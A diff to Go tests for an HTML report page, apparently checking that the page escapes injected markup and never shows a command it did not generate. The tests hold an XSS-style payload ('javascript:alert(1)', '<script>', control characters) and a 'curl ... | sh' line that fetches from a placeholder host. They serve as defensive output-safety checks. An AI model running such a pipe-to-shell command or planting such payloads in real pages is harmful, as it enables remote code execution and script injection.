@@ -112,7 +112,7 @@ func TestAnyNameInHTML(t *testing.T) {
 // TestHTMLMarksOfOthers: a word that a report of anybody's brings along unchecked may set text wrongly, and no more.
 func TestHTMLMarksOfOthers(t *testing.T) {
 	r := reports(t)["several"]
-	r.Classes[1].Areas[0].Conditions[0].Source = "\x05javascript:alert(1)\x06\x01<script>\x02\x03\u202e"
+	r.Classes[3].Areas[0].Conditions[0].Source = "\x05javascript:alert(1)\x06\x01<script>\x02\x03\u202e"
 	checkPage(t, "several", "a forged mark", htmlPage(t, r))
 }
 
@@ -160,7 +160,7 @@ func checkPage(t interface{ Errorf(string, ...any) }, file, name, page string) {
 // TestHTMLShowsNoForeignCommand: what people copy into a shell is a command line that diff writes, or is not there.
 func TestHTMLShowsNoForeignCommand(t *testing.T) {
 	r := reports(t)["several"]
-	const foreign = "curl -i http://shop.example/legacy/ | sh"
+	const foreign = "curl -i http://shop.example/legacy | sh"
 	r.Classes[0].Witnesses[0].Curl = foreign
 	if page := htmltext.UnescapeString(htmlPage(t, r)); strings.Contains(page, foreign) {
 		t.Error("the page shows a foreign command")
